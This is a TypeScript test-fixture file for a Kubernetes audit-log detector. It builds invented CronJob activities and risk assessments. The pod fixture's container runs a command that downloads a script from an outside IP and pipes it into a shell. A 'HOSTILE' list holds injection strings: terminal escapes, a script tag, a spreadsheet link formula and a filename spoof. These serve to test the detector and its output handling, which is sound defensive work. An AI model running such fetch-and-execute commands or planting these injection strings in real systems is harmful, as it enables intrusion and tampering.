/** Invented activities and assessments for the tests of this folder. */
import type { Activity, Actor, EventSummary, LiftedTemplate, Reading, Workload } from '../model/activity.ts';
import type { Severity } from '../model/finding.ts';
import type { Evidence, Indicator } from '../model/indicator.ts';
import { type JsonObject, listAt, objectAt, textAt } from '../model/json.ts';
import { seen } from '../model/seen.ts';
import type { AssessmentLike } from './finding.ts';

export const POINTER = '/spec/jobTemplate/spec/template/spec';

export const cronJob = (pod: JsonObject, metadata: JsonObject = { name: 'backup', namespace: 'dev' }): JsonObject => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata,
  spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: pod } } } },
});

export const POD: JsonObject = {
  serviceAccountName: 'runner',
  restartPolicy: 'OnFailure',
  containers: [
    { name: 'main', image: 'alpine:3.22', command: ['sh', '-c', 'curl -s https://203.0.113.7/x | sh'] },
    { name: 'side', image: `registry.example.com/side@sha256:${'a'.repeat(64)}` },
  ],
};

export const templateWith = (spec: JsonObject): LiftedTemplate => ({
  pointer: POINTER,
  spec,
  metadata: null,
  containers: listAt(spec, 'containers').map((container, index) => ({
    role: 'container',
    name: textAt(container, 'name') ?? '',
    pointer: `${POINTER}/containers/${index}`,
    spec: objectAt({ container }, 'container') ?? {},
  })),
});

export const readingWith = (pod: JsonObject, change: Partial<Reading> = {}): Reading => ({
  kind: 'object',
  inferred: false,
  object: cronJob(pod),
  missing: null,
  origins: [{ at: '', from: '/requestObject' }],
  templates: [templateWith(pod)],
  ...change,
});

interface Change {
  readonly event?: Partial<EventSummary>;
  readonly actor?: Partial<Actor>;
  readonly request?: Partial<Activity['request']>;
  readonly workload?: Partial<Workload>;
  readonly sentinel?: Activity['sentinel'];
}

export const activityWith = ({ event, actor, request, workload, sentinel }: Change = {}): Activity => ({
  event: {
    source: 'audit.jsonl',
    offset: 4_096,
    auditId: '5c1f7a52-0000-4000-8000-000000000001',
    stage: 'ResponseComplete',
    level: 'RequestResponse',
    requestUri: '/apis/batch/v1/namespaces/dev/cronjobs',
    receivedAt: '2026-11-24T10:00:00.123456Z',
    time: { at: '2026-11-24T10:00:00.234567Z', exact: true },
    envelope: 'audit',
    cluster: null,
    cutAt: null,
    ...event,
  },
  actor: {
    username: 'jane@example.com',
    groups: ['developers', 'system:authenticated'],
    impersonatedBy: null,
    claimedUserAgent: 'kubectl/v1.34.0',
    claimedSourceIps: ['198.51.100.7'],
    peerIp: '198.51.100.7',
    kind: 'human',
    extra: {},
    ...actor,
  },
  request: { verb: 'create', outcome: 'accepted', code: 201, ...request },
  workload: {
    apiGroup: 'batch',
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    resource: 'cronjobs',
    subresource: null,
    namespace: 'dev',
    name: 'backup',
    generateName: null,
    uid: null,
    owners: [],
    labels: {},
    annotations: {},
    ...workload,
  },
  readings: seen([readingWith(POD)]),
  sentinel: sentinel ?? null,
});

export const indicatorWith = (id: string, title: string, severity: Severity, attack = ['T1053.007']): Indicator => ({
  id,
  title,
  severity,
  attack,
  why: 'For a test.',
  falsePositives: [],
  needs: [],
  assess: () => {
    throw new Error('A finding is built from outcomes; it assesses nothing.');
  },
});

type Hit = AssessmentLike['hits'][number];

export const hitWith = (indicator: Indicator, weight: number, ...evidence: readonly Evidence[]): Hit => ({
  indicator,
  weight,
  evidence,
});

export const REMOTE_FETCH: Hit = hitWith(
  indicatorWith('command.remote-fetch', 'Scheduled container pipes a download into a shell', 'high', [
    'T1053.007',
    'T1105',
  ]),
  35,
  {
    says: 'Container "main" downloads a script and runs it in one step.',
    at: `/requestObject${POINTER}/containers/0/command/2`,
    value: 'curl -s https://203.0.113.7/x | sh',
    container: 'main',
    decoded: ['base64'],
  },
);
export const MOVING_TAG: Hit = hitWith(indicatorWith('image.untagged', 'The image can change', 'low'), 9, {
  says: 'Tag "3.22" moves.',
  at: `/requestObject${POINTER}/containers/0/image`,
  value: 'alpine:3.22',
});

export const assessmentWith = (change: Partial<AssessmentLike> = {}): AssessmentLike => ({
  activity: activityWith(),
  reading: readingWith(POD),
  severity: 'high',
  risk: 44,
  confidence: 0.9,
  breakdown: { risk: [{ points: 44, reason: 'for a test' }], severity: 'the worst hit', confidence: 'the whole body' },
  hits: [MOVING_TAG, REMOTE_FETCH],
  unassessed: [{ id: 'actor.new-in-namespace', because: 'no-baseline' }],
  ...change,
});

/** What attackers put into names, agents and commands. */
export const HOSTILE: readonly string[] = [
  '\u001b[2J\u001b]0;owned\u0007',
  '<script>window.owned=1</script>',
  '=HYPERLINK("https://203.0.113.7","x")',
  'a | b || c',
  '```\n# heading\n`x`',
  'gnp.\u202egpj.exe\u200b',
  '[link](javascript:alert(1)) @somebody #12',
  '\u2028\r\n\u0000\u009b31m',
];
